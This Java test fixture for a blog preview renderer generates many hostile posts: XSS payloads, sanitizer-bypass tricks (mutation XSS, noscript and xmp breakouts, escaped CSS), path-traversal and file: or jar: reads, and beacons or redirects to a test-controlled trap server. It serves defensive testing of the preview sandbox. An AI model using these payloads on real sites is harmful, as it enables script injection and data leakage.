package dev.inkwren.ui.preview;

import java.util.ArrayList;
import java.util.List;

/** Posts that try to run scripts, reach the network, or read files outside the site. */
final class HostilePosts {

  /** Sets a mark that the test looks for. */
  private static final String RUN = "window.hit=(window.hit||0)+1";

  private HostilePosts() {}

  /**
   * What lies outside, as addresses.
   *
   * @param web a web server
   * @param socket a port for a WebSocket
   * @param decoy a picture outside the site
   * @param archive an archive outside the site that holds {@code decoy.png}, {@code decoy.css} and
   *     {@code decoy.html}; the latter two ask the web server
   */
  record Outside(String web, String socket, String decoy, String archive) {}

  /** Every payload in every place it fits. */
  static List<String> all(Outside outside) {
    String trap = outside.web();
    List<String> posts = new ArrayList<>();
    for (String payload : payloads(trap, outside.decoy())) {
      posts.add(payload + "\n");
      posts.add("text before " + payload + " and behind\n");
      posts.add("> quoted\n>\n> " + payload + "\n");
      posts.add("<div>\n" + payload + "\n</div>\n");
      posts.add("- item " + payload + "\n- b\n");
    }
    for (String word : words(trap)) {
      posts.add("---\ntitle: '" + word.replace("'", "''") + "'\n---\nx\n");
      posts.add("---\ntitle: t\ndescription: '" + word.replace("'", "''") + "'\n---\nx\n");
      posts.add(
          "---\nimage:\n  path: '"
              + word.replace("'", "''")
              + "'\n  alt: '"
              + word.replace("'", "''")
              + "'\n---\nx\n");
      posts.add("```" + word.replace(" ", "/") + "\ncode\n```\n");
      posts.add("## " + word + "\n");
      posts.add("![" + word + "](/a.png)\n");
      posts.add("[x](" + word + ")\n");
      posts.add("| a | " + word.replace("|", "") + " |\n|---|---|\n| b | c |\n");
      posts.add("```mermaid\ngraph TD\n A[\"" + word + "\"] --> B\n```\n");
      posts.add("$$ \\text{" + word + "} $$\n");
      posts.add("{% include " + word.replace(" ", "") + " %}\n");
      posts.add(
          "x\n{: onclick=\""
              + word.replace("\"", "'")
              + "\" style=\"background:url("
              + trap
              + ")\"}\n");
    }
    return posts;
  }

  /** Posts that would take the page itself elsewhere, and with it whatever else is on it. */
  static List<String> leaving(String trap) {
    List<String> posts = new ArrayList<>();
    for (String payload :
        List.of(
            "<meta http-equiv=refresh content=\"0;url=" + trap + "/refresh\">",
            "<img src=x onerror=\"location.href='" + trap + "/location'\">",
            "<form action=\"" + trap + "/button\"><button>x</button></form>",
            "<a href=\"" + trap + "/click\">x</a>",
            "<img src=x onerror=\"window.open('" + trap + "/window')\">",
            "<a href=\"" + trap + "/tab\" target=_blank>x</a>",
            "<form id=f action=\""
                + trap
                + "/form\"></form>"
                + "<img src=x onerror=\"document.getElementById('f').submit()\">",
            "<a id=a href=\""
                + trap
                + "/link\">x</a>"
                + "<img src=x onerror=\"document.getElementById('a').click()\">")) {
      posts.add(payload + "\n");
      posts.add("text " + payload + "\n");
    }
    return posts;
  }

  /** Every way out and to files that the engine may know, each once. */
  static List<String> ways(Outside outside) {
    List<String> posts = loads(outside.web());
    posts.addAll(pastTheScheme(outside));
    return posts;
  }

  /** Ways to have something loaded; each asks for an address of its own. */
  private static List<String> loads(String trap) {
    List<String> posts = new ArrayList<>();
    for (String load :
        List.of(
            "<link rel=preload as=image href=\"$/preload.png\">",
            "<link rel=prefetch href=\"$/prefetch\">",
            "<link rel=modulepreload href=\"$/modulepreload.js\">",
            "<link rel=dns-prefetch href=\"$\"><link rel=preconnect href=\"$\">",
            "<link rel=icon href=\"$/icon.png\"><link rel=manifest href=\"$/manifest\">",
            "<img src=\"$/l.png\" srcset=\"$/srcset.png 1x\">",
            "<img src=x onerror=\"new Image().srcset='$/late-srcset.png 2x'\">",
            "<svg><use xlink:href=\"$/use.svg#a\"/><use href=\"$/use.svg#b\"/></svg>",
            "<svg><image xlink:href=\"$/svg-image.png\"/></svg>",
            "<svg><filter><feImage href=\"$/feimage.png\"/></filter></svg>",
            "<style>@import url($/import.css);</style>",
            "<style>@\\69mport '$/escaped.css';</style>",
            "<p style=\"content:url($/content.png)\">x</p>",
            "<p style=\"cursor:url($/cursor.png),auto\">x</p>",
            "<p style=\"background:image-set('$/image-set.png' 1x)\">x</p>",
            "<p style=\"background:-webkit-image-set(url($/webkit-set.png) 1x)\">x</p>",
            "<p style=\"-webkit-mask:url($/mask.png)\">x</p>",
            "<p style=\"border-image:url($/border.png) 1\">x</p>",
            "<p style=\"shape-outside:url($/shape.png);float:left\">x</p>",
            "<p style=\"background:\\75rl($/escaped.png)\">x</p>",
            "<p style=\"background:u/**/rl($/broken.png)\">x</p>",
            "<p style=\"--a:url($/variable.png);background:var(--a)\">x</p>",
            "<image src=\"$/image.png\">",
            "<iframe src=\"data:text/html,<img src=$/data-frame.png>\"></iframe>",
            "<iframe srcdoc=\"<img src=$/srcdoc.png>\"></iframe>",
            "<iframe src=\"about:blank\" onload=\"this.contentWindow.parent."
                + RUN
                + "\"></iframe>",
            "<img src=x onerror=\"var i=document.createElement('iframe');"
                + "document.body.appendChild(i);i.contentWindow.eval('parent."
                + RUN
                + "')\">",
            "<img src=x onerror=\"var i=document.createElement('iframe');"
                + "i.src=URL.createObjectURL(new Blob(['<img src=$/blob.png>'],{type:'text/html'}));"
                + "document.body.appendChild(i)\">",
            "<img src=x onerror=\"import('$/module.js')\">",
            "<img src=x onerror=\"new Worker('$/worker.js')\">",
            "<video><track default src=\"$/track.vtt\"></video>",
            "<a href=\"$/download\" download=x>x</a>",
            "<a href=\"$/blank\" target=_blank>x</a>",
            "<object type=image/png data=\"$/object-image\"></object>",
            "<embed type=image/png src=\"$/embed-image\">",
            "<object data=\"data:text/html,<img src=$/data-object.png>\"></object>",
            "<applet code=\"$/applet\"></applet><bgsound src=\"$/bgsound\">",
            "<frameset><frame src=\"$/frame\"></frameset>")) {
      posts.add(load.replace("$", trap));
    }
    return posts;
  }

  /** Ways to files and to the network that neither the web's schemes nor ours stand on. */
  private static List<String> pastTheScheme(Outside outside) {
    List<String> posts = new ArrayList<>();
    posts.addAll(files(outside));
    posts.addAll(reads(outside.archive() + "!/"));
    posts.add("<img src=\"jrt:/java.base/module-info.class\">");
    posts.add("<img src=\"" + outside.web().replace("http:", "ftp:") + "/ftp.png\">");
    posts.add("<img src=\"" + outside.web().replace("http:", "file:") + "/file-host.png\">");
    posts.add("<img src=x onerror=\"new WebSocket('" + outside.socket() + "/s')\">");
    return posts;
  }

  /** Ways to read what lies outside the site by its {@code file:} address. */
  static List<String> files(Outside outside) {
    return reads(outside.decoy().substring(0, outside.decoy().lastIndexOf('/') + 1));
  }

  private static List<String> reads(String from) {
    return List.of(
        "<img src=\"" + from + "decoy.png\">",
        "<link rel=stylesheet href=\"" + from + "decoy.css\">",
        "<iframe src=\"" + from + "decoy.html\"></iframe>",
        "<object data=\"" + from + "decoy.html\"></object>",
        "<img src=x onerror=\"fetch('" + from + "decoy.html').then(x => " + RUN + ")\">");
  }

  private static List<String> words(String trap) {
    return List.of(
        "<img src=x onerror=\"" + RUN + "\">",
        "\"><script>" + RUN + "</script>",
        "<style/onload=" + RUN + ">",
        "javascript:" + RUN,
        "<img src=" + trap + ">",
        "'\"><svg onload=" + RUN + ">",
        "</script><script>" + RUN + "</script>");
  }

  private static List<String> payloads(String trap, String decoy) {
    return List.of(
        "<script>" + RUN + "</script>",
        "<script src=\"" + trap + "/s.js\"></script>",
        "<img src=x onerror=\"" + RUN + "\">",
        "<img src=\"" + trap + "/i.png\">",
        "<img srcset=\"" + trap + "/i.png 1x\">",
        "<img src=\"" + decoy + "\">",
        "<img src=\"/../" + decoy.substring(decoy.lastIndexOf('/') + 1) + "\">",
        "<img src=\"/%2e%2e/" + decoy.substring(decoy.lastIndexOf('/') + 1) + "\">",
        "<img src=\"/link/" + decoy.substring(decoy.lastIndexOf('/') + 1) + "\">",
        "<img src=\"" + decoy.replace("file://", "") + "\">",
        "<img src=\"/link/sub/../" + decoy.substring(decoy.lastIndexOf('/') + 1) + "\">",
        "<img src=x onerror=\"fetch('" + trap + "/fetch')\">",
        "<img src=x onerror=\"navigator.sendBeacon('" + trap + "/beacon')\">",
        "<img src=x onerror=\"var x=new XMLHttpRequest();x.open('GET','"
            + trap
            + "/x');x.send()\">",
        "<img src=x onerror=\"new EventSource('" + trap + "/events')\">",
        "<img src=x onerror=\"var s=document.createElement('script');s.src='"
            + trap
            + "/late.js';document.head.appendChild(s)\">",
        "<style>@font-face{font-family:t;src:url("
            + trap
            + "/font.woff)}</style><p style=\"font-family:t\">x</p>",
        "<p style=\"list-style:url(" + trap + "/l.png);display:list-item\">x</p>",
        "<input type=image src=\"" + trap + "/in.png\">",
        "<picture><source srcset=\""
            + trap
            + "/ps.png\"><img src=\""
            + trap
            + "/pi.png\"></picture>",
        "<img src=\"" + trap.substring("http:".length()) + "/noscheme.png\">",
        "<img data-src=\"" + trap + "/lazy.png\" data-lqip=\"true\">",
        "<a href=\"" + trap + "/ping\" ping=\"" + trap + "/pinged\">x</a>",
        "<img src=\"jar:" + decoy + "!/a.png\">",
        "<svg onload=\"" + RUN + "\"></svg>",
        "<svg><script>" + RUN + "</script></svg>",
        "<svg><image href=\"" + trap + "/svg.png\"/></svg>",
        "<svg><use href=\"" + trap + "/u.svg#a\"/></svg>",
        "<svg><animate onbegin=\"" + RUN + "\" attributeName=x dur=1s></svg>",
        "<math><mi xlink:href=\"javascript:" + RUN + "\">x</mi></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=\"" + RUN + "\"></style></table>",
        "<iframe src=\"" + trap + "/f\"></iframe>",
        "<iframe srcdoc=\"<script>parent." + RUN + "</script>\"></iframe>",
        "<iframe onload=\"" + RUN + "\"></iframe>",
        "<object data=\"" + trap + "/o\"></object>",
        "<embed src=\"" + trap + "/e\">",
        "<video src=\"" + trap + "/v.mp4\" poster=\"" + trap + "/p.png\" autoplay></video>",
        "<video><source onerror=\"" + RUN + "\"></video>",
        "<audio src=\"" + trap + "/a.mp3\" autoplay></audio>",
        "<link rel=stylesheet href=\"" + trap + "/c.css\">",
        "<style>@import '" + trap + "/i.css'; body{background:url(" + trap + "/b.png)}</style>",
        "<div style=\"background-image:url('" + trap + "/d.png')\">x</div>",
        "<div style=\"width:expression(" + RUN + ")\">x</div>",
        "<base href=\"" + trap + "/\"><img src=rel.png>",
        "<form action=\"" + trap + "/q\"><input name=a autofocus onfocus=\"" + RUN + "\"></form>",
        "<input autofocus onfocus=\"" + RUN + "\">",
        "<details open ontoggle=\"" + RUN + "\"><summary>s</summary></details>",
        "<body onload=\"" + RUN + "\">",
        "<a href=\"javascript:" + RUN + "\">x</a>",
        "<a href=\"java\tscript:" + RUN + "\">x</a>",
        "<noscript><p title=\"</noscript><img src=x onerror=" + RUN + ">\"></noscript>",
        "<template><img src=x onerror=\"" + RUN + "\"></template>",
        "<textarea></textarea><img src=x onerror=\"" + RUN + "\">",
        "<xmp><p title=\"</xmp><img src=x onerror=" + RUN + ">\"></xmp>",
        "<marquee onstart=\"" + RUN + "\">x</marquee>",
        "<p id=ink-body onclick=\"" + RUN + "\">x</p><p style=\"position:fixed\">x</p>",
        "<table background=\""
            + trap
            + "/t.png\"><tr><td background=\""
            + trap
            + "\">x</td></tr></table>");
  }
}
